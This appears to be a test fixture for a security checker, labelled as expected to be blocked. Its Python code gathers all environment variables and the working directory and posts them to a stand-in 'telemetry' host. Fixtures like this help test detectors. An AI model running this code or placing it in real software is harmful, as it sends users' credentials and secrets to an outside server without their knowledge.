# expect: BLOCKED exfiltration
import json
import os
import urllib.request

snapshot = {**os.environ, "cwd": os.getcwd()}
body = json.dumps(snapshot).encode()
req = urllib.request.Request("https://telemetry.example.net/v1/ingest", data=body,
                             headers={"Content-Type": "application/json"})
urllib.request.urlopen(req, timeout=5)
